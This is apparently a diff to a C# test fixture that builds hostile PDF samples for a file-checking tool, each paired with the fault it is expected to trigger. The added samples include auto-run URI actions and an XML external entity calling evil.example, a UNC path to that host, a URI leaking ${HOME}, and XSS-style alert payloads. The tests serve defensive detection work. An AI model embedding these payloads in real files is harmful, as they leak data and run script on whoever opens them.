@@ -1,8 +1,8 @@
 using System.Text;
 using SupervisionBot.Core.FileChecks;
-using static SupervisionBot.Tests.Core.FileChecks.HostileFiles;
+using static Documents.Files.HostileFiles;
 
-namespace SupervisionBot.Tests.Core.FileChecks;
+namespace Documents.Files;
 
 /// <summary>PDFs that do something when they are opened, in the spellings that readers follow.</summary>
 static class HostilePdfs
@@ -87,6 +87,30 @@ static class HostilePdfs
             Pdf($"40 0 obj\n<</XFA 41 0 R>>\nendobj\n{Latin1(PdfStream(41, "", "<xdp><submit target='https://evil.example'/></xdp>"))}"),
             FileFault.SubmitForm
         );
+        foreach (
+            var (objects, fault) in (IReadOnlyList<(string, FileFault)>)
+                [
+                    ("<</Type /Catalog /OpenAction <</S /URI /URI (https://evil.example)>> >>", FileFault.OpensByItself),
+                    ("<</Type /Catalog /OpenAction 50 0 R>>", FileFault.OpensByItself),
+                    ("<</OpenAction <</S /GoTo /D [0] /Next [<</S /URI /URI (https://evil.example)>>]>> >>", FileFault.OpensByItself),
+                    ("<</Type /Catalog /AA <</WC <</S /URI /URI (https://evil.example)>> >> >>", FileFault.OpensByItself),
+                    ("<</Type /Page /AA 51 0 R>>", FileFault.OpensByItself),
+                    ("<</S /URI /URI (vnd.sun.star.expand:https://evil.example/?v=${HOME})>>", FileFault.OddAddress),
+                    ("<</Type /Font /FontMatrix [1 2 3 4 5 (1\\); alert\\(1)]>>", FileFault.Damaged),
+                    ("<</Subtype /Text /T (<img src=x onerror=alert\\(1\\)>)>>", FileFault.JavaScript),
+                    ("<</Subtype /Image /F (\\\\evil.example\\a.jpg) /Length 0>>\nstream\n\nendstream", FileFault.OtherFile),
+                    ("<</F <</Type /Filespec /F (a.bin)>> /Length 0>>\nstream\n\nendstream", FileFault.OtherFile),
+                    ("<</FunctionType 4 /Length 9>>\nstream\n{ f(\"x\") }\nendstream", FileFault.JavaScript),
+                    (
+                        "<</Type /Metadata /Length 9>>\nstream\n<!DOCTYPE x [<!ENTITY e SYSTEM 'https://evil.example'>]>\nendstream",
+                        FileFault.Declarations
+                    ),
+                ]
+        )
+            yield return (
+                Pdf($"9 0 obj\n{objects}\nendobj\n50 0 obj\n<</S /URI /URI (https://evil.example)>>\nendobj\n" + "51 0 obj\n<</O 50 0 R>>\nendobj\n"),
+                fault
+            );
         // What cannot be read to its end, or has none.
         yield return (
             Pdf("9 0 obj\n<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 4>>\nstream\nabcd\nendstream\nendobj\n"),
